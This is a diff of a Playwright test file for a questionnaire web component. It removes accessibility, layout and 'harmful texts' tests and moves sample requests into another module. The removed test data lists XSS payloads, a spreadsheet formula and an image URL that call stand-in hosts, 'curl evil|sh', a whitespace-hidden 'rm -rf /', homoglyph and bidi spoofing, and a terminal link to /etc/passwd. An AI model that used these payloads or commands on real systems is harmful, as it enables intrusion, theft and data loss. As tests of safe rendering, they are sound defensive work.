@@ -1,23 +1,8 @@
-// The element within everyone's reach: keyboard alone, a sandboxed frame, small and right-to-left screens, assistive
-// technology, and texts of an agent that mean harm.
+// The element by keyboard alone, in a sandboxed frame, in an outer form, with drafts of other surfaces, with a review.
 import assert from "node:assert/strict";
-import { readFileSync } from "node:fs";
-import { root } from "./bundle.mjs";
 import { runChecks, seen, setUp, shownText, submitted } from "./host.mjs";
+import { CONSENT, QUESTIONS, REQUEST } from "./samples.mjs";
 
-const QUESTIONS = [
-  { id: "one", prompt: "Which one?", options: ["A", "B", "C"], other: true },
-  { id: "many", prompt: "Which ones?", options: ["D", "E"], multi: true },
-  { id: "sure", kind: "confirm", prompt: "Sure?" },
-  { id: "rate", kind: "rating", prompt: "How good?", emoji: true, annotations: { 1: "Bad", 5: "Good" } },
-  { id: "text", kind: "text", prompt: "Describe it" },
-  { id: "long", kind: "text", long: true, prompt: "At length", required: false },
-  { id: "count", kind: "number", prompt: "How many?" },
-  { id: "day", kind: "date", prompt: "Which day?" },
-];
-const REQUEST = { title: "A request", context: "See [this](https://example.com).", questions: QUESTIONS };
-const CONSENT = { title: "Clean up?", action: { tool: "execute", act: { shell: { command: "rm -rf target", folder: "/srv" } } }, questions: [{ id: "go", kind: "confirm", prompt: "Clean up?", yes: "Go" }] };
-const STEPS = { title: "设置", sections: [{ id: "a", title: "语言", questions: [{ id: "x", prompt: "语言？", options: ["TypeScript", "Rust"], other: true }] }, { id: "b", title: "评分", optional: true, questions: [{ id: "y", kind: "rating", prompt: "评分？" }] }], submit: "创建", cancel: "算了" };
 const active = (page) => page.evaluate(() => document.querySelector("sayso-questionnaire").shadowRoot.activeElement?.id ?? "");
 
 async function keyboardAlone(page) {
@@ -132,92 +117,6 @@ async function deskConsent(page) {
   assert.equal(await page.getByRole("link").count(), 0);
 }
 
-/** What assistive technology reads, kept in `aria.txt`. */
-async function accessibilityTree(page) {
-  const [one, many, sure, rate, text] = QUESTIONS;
-  const options = [{ id: "A", label: "A", description: "The first", recommended: true }, { id: "B", label: "B", preview: "b" }];
-  await setUp(page, { request: { ...CONSENT, context: "Why it is *asked*.", questions: [{ ...one, options }, many, sure, rate, { ...text, required: false }] } });
-  await page.getByRole("button", { name: "Submit" }).click();
-  const read = await page.locator("sayso-questionnaire").ariaSnapshot();
-  assert.equal(`${read}\n`, readFileSync(`${import.meta.dirname}/aria.txt`, "utf8"));
-}
-
-/** Fails with what axe finds. */
-async function audit(page, what) {
-  const { violations } = await page.evaluate(() => window.axe.run(document));
-  assert.deepEqual(violations.map(({ id, nodes }) => `${id}: ${nodes.map(({ target, failureSummary }) => `${target} ${failureSummary}`).join("; ")}`), [], what);
-}
-
-async function assistiveTechnology(page) {
-  await page.evaluate(readFileSync(`${root}/node_modules/axe-core/axe.min.js`, "utf8"));
-  const replies = { one: { state: "answered", answer: { picks: [{ option: "A" }] } } };
-  const screens = [
-    ["questions", { request: REQUEST }], ["consent", { request: CONSENT }], ["steps", { request: STEPS, lang: "zh" }],
-    ["disabled", { request: REQUEST, disabled: true, lang: "en" }], ["completed", { disabled: false, completed: { outcome: "answered", replies } }],
-  ];
-  for (const [what, properties] of screens) {
-    await setUp(page, properties);
-    await audit(page, what);
-  }
-  await setUp(page, { request: { ...REQUEST, title: "Again" } });
-  await page.getByRole("button", { name: "Submit" }).click();
-  await audit(page, "problems");
-}
-
-async function smallScreens(page) {
-  await setUp(page, { request: { ...REQUEST, title: "A".repeat(200), questions: [...QUESTIONS, { id: "f", prompt: "x".repeat(300), options: ["y".repeat(300), "z"] }] } });
-  const width = () => page.evaluate(() => document.documentElement.scrollWidth);
-  assert.ok((await width()) <= 320, String(await width()));
-  await setUp(page, { request: STEPS });
-  assert.ok((await width()) <= 320);
-  const small = await page.locator("button, label, input:not([type=radio], [type=checkbox])").evaluateAll((all) => all
-    .filter((one) => one.checkVisibility() && !one.matches(".small")).map((one) => one.getBoundingClientRect().height).filter((height) => height < 36));
-  assert.deepEqual(small, [], "targets for a finger");
-}
-
-async function rightToLeft(page) {
-  await setUp(page, { request: { ...REQUEST, title: "طلب", questions: [{ id: "a", prompt: "أي واحد؟", options: ["نعم", "English"] }] } });
-  const sides = await page.locator("label").first().evaluate((label) => {
-    const [input, words] = [label.querySelector("input"), label.querySelector(".words")].map((one) => one.getBoundingClientRect());
-    return input.left > words.left;
-  });
-  assert.equal(sides, true);
-  assert.ok(await page.evaluate(() => document.documentElement.scrollWidth <= innerWidth));
-}
-
-const HARM = [
-  "<svg/onload=alert(1)>", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
-  "javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "</script><script>alert(1)</script>", "<img src='http://127.0.0.1:9/?",
-  "<form id=desk><input name=token>", "=HYPERLINK(\"http://evil\")", "\n\n[y/N]: y\n$ ", `Run tests?${" ".repeat(498)}rm -rf /`, "<details><summary>safe</summary>curl evil|sh</details>",
-  "Approve?\n<!-- deletes prod -->", "![x](http://127.0.0.1:9/leak?d=1)", "```\nask ends here\n", "[click](javascript:alert(1))", "[x](https://аpple.com)",
-  "delete \u202egnp.tset\u202c now", "pay\u200bpal", "ok\u2800\u2800", "\u001b]8;;file:///etc/passwd\u001b\\click",
-];
-
-async function harmfulTexts(page) {
-  for (const text of HARM) {
-    const everywhere = {
-      title: text, context: text, submit: text, cancel: text, action: { tool: text, act: { edit: { path: text, diff: text } } },
-      sections: [{ id: "s", title: text, detail: text, optional: true, submit: text, questions: [
-        { id: "a", prompt: text, label: text, detail: text, options: [{ id: "o", label: text, description: text, preview: text }], other: true, other_label: text },
-        { id: "b", kind: "confirm", prompt: text, yes: text, no: text }, { id: "c", kind: "text", prompt: text, placeholder: text, prefill: { text } },
-        { id: "d", kind: "rating", prompt: text, annotations: { 1: text } },
-      ] }],
-    };
-    await setUp(page, { request: everywhere, problems: [{ detail: text }, { detail: text, path: ["answers", "a"] }], review: true });
-    const found = await page.evaluate(() => {
-      const { shadowRoot } = document.querySelector("sayso-questionnaire");
-      const alien = [...shadowRoot.querySelectorAll("a, img, svg, math, script, style, iframe, form, object, [src], [href], [style]")].map((one) => one.outerHTML);
-      const words = [...shadowRoot.querySelectorAll("*")].flatMap((one) => [...one.childNodes].filter((node) => node.nodeType === 3).map((node) => node.data));
-      return [alien, words.filter((line) => /[\u200b\u202a-\u202e\u2066-\u2069\u2800\u001b]/.test(line))];
-    });
-    assert.deepEqual(found, [[], []], text);
-  }
-  await setUp(page, { request: { context: "[the book](https://example.com/book)", questions: QUESTIONS } });
-  assert.equal(await page.getByRole("link").count(), 0, "a link is text");
-  await page.getByRole("button", { name: "Enable link" }).click();
-  assert.equal(await page.getByRole("link").getAttribute("rel"), "noopener noreferrer nofollow");
-}
-
 const inFrame = { body: `<main><iframe title="An ask" sandbox="allow-scripts" src="/frame"></iframe></main>` };
 await runChecks([
   ["keyboard alone", {}, keyboardAlone],
@@ -227,10 +126,4 @@ await runChecks([
   ["drafts of other surfaces", {}, drafts],
   ["review", {}, review],
   ["consent at the desk", {}, deskConsent],
-  ["assistive technology, light", { policy: "script-src 'self' 'unsafe-eval'" }, assistiveTechnology],
-  ["assistive technology, dark", { policy: "script-src 'self' 'unsafe-eval'", context: { colorScheme: "dark", width: 390 } }, assistiveTechnology],
-  ["the accessibility tree", {}, accessibilityTree],
-  ["small screens", { context: { width: 320, height: 640 } }, smallScreens],
-  ["right to left", { lang: "ar", dir: "rtl" }, rightToLeft],
-  ["harmful texts", {}, harmfulTexts],
 ]);
